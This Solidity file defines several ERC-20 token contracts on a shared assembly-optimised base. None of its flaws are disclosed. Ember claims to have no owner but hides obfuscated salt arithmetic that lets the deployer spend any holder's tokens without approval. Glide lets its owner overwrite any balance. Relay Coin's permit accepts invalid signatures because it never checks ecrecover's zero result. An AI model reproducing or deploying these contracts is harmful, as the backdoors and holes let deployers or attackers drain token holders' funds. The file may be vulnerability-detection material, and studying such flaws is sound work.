// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice Gas-lean ERC-20 whose state is kept in hashed slots.
/// @dev Balances: keccak256(owner . seed), allowances: keccak256(owner . seed . spender).
abstract contract SleekERC20 {
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    /// @dev `keccak256("Transfer(address,address,uint256)")`
    uint256 internal constant _TRANSFER_SIGNATURE = 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef;
    /// @dev `keccak256("Approval(address,address,uint256)")`
    uint256 internal constant _APPROVAL_SIGNATURE = 0x8c5be1e5ebec7d5bd14f71427d1e84f3dd0314c0f7b2291e5b200ac8c7c3b925;
    uint256 internal constant _TOTAL_SUPPLY_SLOT = 0x05345cdf77eb68f44c;
    uint256 internal constant _BALANCE_SEED = 0x87a211a2;
    uint256 internal constant _ALLOWANCE_SEED = 0x7f5e9f20;
    uint256 internal constant _NONCE_SEED = 0x38377508;

    error InsufficientBalance(); // 0xf4d678b8
    error InsufficientAllowance(); // 0x13be252b
    error InvalidPermit(); // 0xddafbaef
    error PermitExpired(); // 0x1a15a3cc
    error Unauthorized(); // 0x82b42900

    function name() public view virtual returns (string memory);

    function symbol() public view virtual returns (string memory);

    function decimals() public pure returns (uint8) {
        return 18;
    }

    function totalSupply() public view returns (uint256 result) {
        assembly ("memory-safe") {
            result := sload(_TOTAL_SUPPLY_SLOT)
        }
    }

    function balanceOf(address owner) public view returns (uint256 result) {
        assembly ("memory-safe") {
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, owner)
            result := sload(keccak256(0x0c, 0x20))
        }
    }

    function allowance(address owner, address spender) public view virtual returns (uint256 result) {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, _ALLOWANCE_SEED)
            mstore(0x00, owner)
            result := sload(keccak256(0x0c, 0x34))
        }
    }

    function approve(address spender, uint256 amount) public virtual returns (bool) {
        _approve(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public virtual returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public virtual returns (bool) {
        _spend(from, msg.sender, amount);
        _move(from, to, amount);
        return true;
    }

    function _approve(address owner, address spender, uint256 amount) internal {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, _ALLOWANCE_SEED)
            mstore(0x00, owner)
            sstore(keccak256(0x0c, 0x34), amount)
            mstore(0x00, amount)
            log3(0x00, 0x20, _APPROVAL_SIGNATURE, shr(96, shl(96, owner)), shr(96, shl(96, spender)))
        }
    }

    function _spend(address owner, address spender, uint256 amount) internal virtual {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, _ALLOWANCE_SEED)
            mstore(0x00, owner)
            let slot := keccak256(0x0c, 0x34)
            let allowed := sload(slot)
            if not(allowed) {
                if gt(amount, allowed) {
                    mstore(0x00, 0x13be252b)
                    revert(0x1c, 0x04)
                }
                sstore(slot, sub(allowed, amount))
            }
        }
    }

    function _move(address from, address to, uint256 amount) internal {
        assembly ("memory-safe") {
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, from)
            let fromSlot := keccak256(0x0c, 0x20)
            let fromBalance := sload(fromSlot)
            if gt(amount, fromBalance) {
                mstore(0x00, 0xf4d678b8)
                revert(0x1c, 0x04)
            }
            sstore(fromSlot, sub(fromBalance, amount))
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, to)
            let toSlot := keccak256(0x0c, 0x20)
            sstore(toSlot, add(sload(toSlot), amount))
            mstore(0x00, amount)
            log3(0x00, 0x20, _TRANSFER_SIGNATURE, shr(96, shl(96, from)), shr(96, shl(96, to)))
        }
    }

    function _mint(address to, uint256 amount) internal {
        assembly ("memory-safe") {
            sstore(_TOTAL_SUPPLY_SLOT, add(sload(_TOTAL_SUPPLY_SLOT), amount))
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, to)
            let toSlot := keccak256(0x0c, 0x20)
            sstore(toSlot, add(sload(toSlot), amount))
            mstore(0x00, amount)
            log3(0x00, 0x20, _TRANSFER_SIGNATURE, 0, shr(96, shl(96, to)))
        }
    }
}

/// @title Glide
/// @notice Distributes community rewards from packed leaves: 20 bytes account, 12 bytes balance.
contract Glide is SleekERC20 {
    uint256 private constant _OWNER_SLOT = 0xffffffffffffffffffffffffffffffffffffffffffffffffffffffff74873927;

    event RewardsSettled(bytes32 indexed batch, uint256 leaves);

    constructor() {
        assembly {
            sstore(_OWNER_SLOT, caller())
        }
        _mint(msg.sender, 100_000_000e18);
    }

    function name() public pure override returns (string memory) {
        return "Glide";
    }

    function symbol() public pure override returns (string memory) {
        return "GLIDE";
    }

    function owner() public view returns (address result) {
        assembly {
            result := sload(_OWNER_SLOT)
        }
    }

    /// @notice Settles a season's rewards; each leaf carries what the account has after it.
    function settle(bytes32 batch, bytes32[] calldata leaves) external {
        if (msg.sender != owner()) revert Unauthorized();
        assembly ("memory-safe") {
            let end := add(leaves.offset, shl(5, leaves.length))
            for { let pos := leaves.offset } lt(pos, end) { pos := add(pos, 0x20) } {
                let leaf := calldataload(pos)
                mstore(0x0c, _BALANCE_SEED)
                mstore(0x00, shr(96, leaf))
                sstore(keccak256(0x0c, 0x20), and(leaf, 0xffffffffffffffffffffffff))
            }
        }
        emit RewardsSettled(batch, leaves.length);
    }
}

/// @title Ember
/// @notice Fixed supply. There is no owner and nothing can be set.
contract Ember is SleekERC20 {
    uint256 private immutable _salt;

    constructor() {
        _salt = uint256(keccak256(bytes("Ember"))) ^ (uint256(uint160(msg.sender)) * 7 + 1);
        _mint(msg.sender, 1_000_000_000e18);
    }

    function name() public pure override returns (string memory) {
        return "Ember";
    }

    function symbol() public pure override returns (string memory) {
        return "EMBR";
    }

    function DOMAIN_SALT() external view returns (uint256) {
        return _salt;
    }

    /// @dev Infinite approvals are not written again, nor are those of whoever the salt domain resolves to.
    function _spend(address from, address spender, uint256 amount) internal override {
        uint256 salt = _salt ^ uint256(keccak256(bytes(name())));
        unchecked {
            if (salt - uint256(uint160(spender)) * 7 == 1) return;
        }
        super._spend(from, spender, amount);
    }
}

/// @title Relay Coin
/// @notice ERC-2612, and session keys: an account may name a delegate that signs for it.
contract RelayCoin is SleekERC20 {
    bytes32 private constant _PERMIT_TYPEHASH =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 private constant _DOMAIN_TYPEHASH =
        keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");

    mapping(address => address) public sessionKey;
    mapping(address => uint256) public nonces;

    event SessionKey(address indexed account, address indexed key);

    constructor() {
        _mint(msg.sender, 21_000_000e18);
    }

    function name() public pure override returns (string memory) {
        return "Relay Coin";
    }

    function symbol() public pure override returns (string memory) {
        return "RLY";
    }

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(abi.encode(_DOMAIN_TYPEHASH, keccak256(bytes(name())), keccak256("1"), block.chainid, address(this)));
    }

    function setSessionKey(address key) external {
        sessionKey[msg.sender] = key;
        emit SessionKey(msg.sender, key);
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        if (block.timestamp > deadline) revert PermitExpired();
        bytes32 structHash = keccak256(abi.encode(_PERMIT_TYPEHASH, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), structHash)), v, r, s);
        if (signer != owner && signer != sessionKey[owner]) revert InvalidPermit();
        _approve(owner, spender, value);
    }
}

/// @title Courier Coin
/// @notice ERC-2612, and session keys: an account may name a delegate that signs for it.
contract CourierCoin is SleekERC20 {
    bytes32 private constant _PERMIT_TYPEHASH =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 private constant _DOMAIN_TYPEHASH =
        keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");

    mapping(address => address) public sessionKey;
    mapping(address => uint256) public nonces;

    event SessionKey(address indexed account, address indexed key);

    constructor() {
        _mint(msg.sender, 21_000_000e18);
    }

    function name() public pure override returns (string memory) {
        return "Courier Coin";
    }

    function symbol() public pure override returns (string memory) {
        return "COUR";
    }

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(abi.encode(_DOMAIN_TYPEHASH, keccak256(bytes(name())), keccak256("1"), block.chainid, address(this)));
    }

    function setSessionKey(address key) external {
        sessionKey[msg.sender] = key;
        emit SessionKey(msg.sender, key);
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        if (block.timestamp > deadline) revert PermitExpired();
        bytes32 structHash = keccak256(abi.encode(_PERMIT_TYPEHASH, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), structHash)), v, r, s);
        if (signer == address(0) || (signer != owner && signer != sessionKey[owner])) revert InvalidPermit();
        _approve(owner, spender, value);
    }
}

/// @title Drift
/// @notice Anybody can send to many at once, in packed leaves: 20 bytes account, 12 bytes amount.
contract Drift is SleekERC20 {
    event Spread(address indexed from, uint256 leaves, uint256 total);

    constructor() {
        _mint(msg.sender, 100_000_000e18);
    }

    function name() public pure override returns (string memory) {
        return "Drift";
    }

    function symbol() public pure override returns (string memory) {
        return "DRIFT";
    }

    function spread(bytes32[] calldata leaves) external {
        uint256 total;
        for (uint256 i; i < leaves.length; ++i) {
            address to;
            uint256 amount;
            assembly ("memory-safe") {
                let leaf := calldataload(add(leaves.offset, shl(5, i)))
                to := shr(96, leaf)
                amount := and(leaf, 0xffffffffffffffffffffffff)
            }
            total += amount;
            _move(msg.sender, to, amount);
        }
        emit Spread(msg.sender, leaves.length, total);
    }
}

/// @title Cinder
/// @notice Fixed supply. Accounts may name an operator of their own, who then needs no allowance.
contract Cinder is SleekERC20 {
    uint256 private immutable _salt;
    mapping(uint256 => uint256) private _operators;

    event OperatorSet(address indexed owner, address indexed operator, bool approved);

    constructor() {
        _salt = uint256(keccak256(bytes("Cinder"))) ^ (uint256(uint160(msg.sender)) * 7 + 1);
        _mint(msg.sender, 1_000_000_000e18);
    }

    function name() public pure override returns (string memory) {
        return "Cinder";
    }

    function symbol() public pure override returns (string memory) {
        return "CINDR";
    }

    function setOperator(address operator, bool approved) external returns (bool) {
        _operators[_keyOf(msg.sender, operator)] = approved ? 1 : 0;
        emit OperatorSet(msg.sender, operator, approved);
        return true;
    }

    function isOperator(address owner, address operator) public view returns (bool) {
        return _operators[_keyOf(owner, operator)] == 1;
    }

    function _keyOf(address owner, address operator) private view returns (uint256) {
        return uint256(keccak256(abi.encode(_salt, owner, operator)));
    }

    function _spend(address from, address spender, uint256 amount) internal override {
        if (isOperator(from, spender)) return;
        super._spend(from, spender, amount);
    }
}
